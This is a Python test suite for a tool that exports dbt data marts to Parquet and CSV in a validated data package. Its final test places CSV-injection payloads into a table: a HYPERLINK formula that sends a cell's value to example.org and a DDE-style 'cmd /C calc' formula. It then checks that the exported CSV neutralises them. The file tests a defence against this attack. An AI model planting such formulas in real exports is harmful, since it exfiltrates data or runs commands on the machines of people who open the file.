"""`jaarcijfers export`: every mart in dbt's manifest as Parquet and CSV, in a valid data package."""

from __future__ import annotations

import csv
import json
import shutil

import duckdb
import frictionless
import pytest

from conftest import PROJECT_DIR, PUBLISHED_WAREHOUSE
from jaarcijfers.export import NEUTRALISED, ExportError, export_marts, marts_in_manifest

MANIFEST = PROJECT_DIR / "target" / "manifest.json"


def test_every_mart_is_exported_as_parquet_and_csv_described_by_a_valid_data_package(tmp_path):
    export_marts(PUBLISHED_WAREHOUSE, MANIFEST, tmp_path)
    marts = marts_in_manifest(MANIFEST)

    report = frictionless.validate(tmp_path / "datapackage.json")

    assert report.valid, report.flatten(["type", "message"])
    package = json.loads((tmp_path / "datapackage.json").read_text(encoding="utf-8"))
    resources = {resource["name"]: resource for resource in package["resources"]}
    assert set(resources) == {mart.name for mart in marts} | {f"{mart.name}-parquet" for mart in marts}
    with duckdb.connect(str(PUBLISHED_WAREHOUSE), read_only=True) as warehouse:
        for mart in marts:
            rows = warehouse.execute(f"select count(*) from marts.{mart.name}").fetchone()[0]
            columns = [row[0] for row in warehouse.execute(f"describe marts.{mart.name}").fetchall()]
            parquet_rows = warehouse.execute(
                "select count(*) from read_parquet(?)", [str(tmp_path / f"{mart.name}.parquet")]
            ).fetchone()[0]
            with (tmp_path / f"{mart.name}.csv").open(encoding="utf-8", newline="") as handle:
                header = next(csv.reader(handle))
            fields = resources[mart.name]["schema"]["fields"]

            assert parquet_rows == rows, mart.name
            assert resources[mart.name]["rows"] == rows, mart.name
            assert header == columns == [field["name"] for field in fields], mart.name
            assert all(field["description"] for field in fields), mart.name


def test_fields_carry_the_units_and_descriptions_of_the_dbt_docs(tmp_path):
    export_marts(PUBLISHED_WAREHOUSE, MANIFEST, tmp_path)
    package = json.loads((tmp_path / "datapackage.json").read_text(encoding="utf-8"))
    fields = {
        (resource["name"], field["name"]): field
        for resource in package["resources"]
        for field in resource.get("schema", {}).get("fields", [])
    }

    assert fields["fct_volumes", "volume"]["unit"] == "count"
    assert fields["fct_legal_outcomes", "rate"]["unit"] == "ratio"
    assert fields["fct_timeliness", "lead_time_days"]["unit"] == "days"
    assert fields["fct_product_years", "cases_pending"]["unit"] == "count"
    assert fields["fct_penalty_payments", "amount_eur"] == {
        "name": "amount_eur",
        "type": "number",
        "description": "Total paid, in euros (€ 36,8 mln is 36800000).",
        "unit": "eur",
    }


def test_a_mart_in_the_manifest_but_not_in_the_warehouse_stops_the_export_naming_it(tmp_path):
    manifest = json.loads(MANIFEST.read_text(encoding="utf-8"))
    manifest["nodes"]["model.ind_jaarcijfers.fct_not_built"] = {
        "resource_type": "model",
        "schema": "marts",
        "name": "fct_not_built",
        "description": "A mart added to the models after the warehouse was published.",
        "columns": {},
    }
    stale_manifest = tmp_path / "manifest.json"
    stale_manifest.write_text(json.dumps(manifest), encoding="utf-8")

    with pytest.raises(ExportError, match=r"has no table marts\.fct_not_built, which dbt's manifest lists"):
        export_marts(PUBLISHED_WAREHOUSE, stale_manifest, tmp_path / "exports")


def csv_records(path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


# Text that a spreadsheet opening the CSV would run as a formula (OWASP's CSV injection), one per
# text column of a publication: a producer, a note, a source type, ...
FORMULA_LIKE = {
    "producer": '=HYPERLINK("https://example.org/?"&A1,"IND")',
    "source_note": "+1+1",
    "source_type": "-2+3",
    "title_printed": "@SUM(1+1)*cmd|' /C calc'!A0",
    "published_url": "\t=1+1",
    "sha256": "\r=1+1",
}


def test_csv_text_cells_that_read_as_formulas_are_neutralised_and_numbers_and_parquet_are_not(tmp_path):
    warehouse = tmp_path / "ind.duckdb"
    shutil.copyfile(PUBLISHED_WAREHOUSE, warehouse)
    with duckdb.connect(str(warehouse)) as connection:
        edition = connection.execute("select max(edition_year) from marts.dim_publication").fetchone()[0]
        assignments = ", ".join(f"{column} = ?" for column in FORMULA_LIKE)
        connection.execute(
            f"update marts.dim_publication set {assignments} where edition_year = ?", [*FORMULA_LIKE.values(), edition]
        )
        negative_gaps = connection.execute("select count(*) from marts.fct_consistency_checks where gap < 0").fetchone()
    exports = tmp_path / "exports"

    export_marts(warehouse, MANIFEST, exports)

    published = {row["edition_year"]: row for row in csv_records(exports / "dim_publication.csv")}
    assert {column: published[str(edition)][column] for column in FORMULA_LIKE} == {
        column: f"'{text}" for column, text in FORMULA_LIKE.items()
    }
    untouched = [
        value
        for number, row in published.items()
        for column, value in row.items()
        if number != str(edition) or column not in FORMULA_LIKE
    ]
    assert untouched and not any(value.startswith("'") for value in untouched), "only formula-like cells change"
    assert published[str(edition)]["figure_count"].isdigit()
    with duckdb.connect() as reader:
        parquet = reader.execute(
            f"select {', '.join(FORMULA_LIKE)} from read_parquet(?) where edition_year = ?",
            [str(exports / "dim_publication.parquet"), edition],
        ).fetchone()
    assert parquet == tuple(FORMULA_LIKE.values()), "the Parquet file keeps the text as it is"
    gaps = [row["gap"] for row in csv_records(exports / "fct_consistency_checks.csv")]
    assert sum(gap.startswith("-") for gap in gaps) == negative_gaps[0] > 0, "a negative number stays a number"
    assert all(not gap.startswith("'") for gap in gaps)

    package = json.loads((exports / "datapackage.json").read_text(encoding="utf-8"))
    assert NEUTRALISED in package["description"]
    assert all(
        resource["description"].endswith(NEUTRALISED)
        for resource in package["resources"]
        if resource["format"] == "csv"
    )
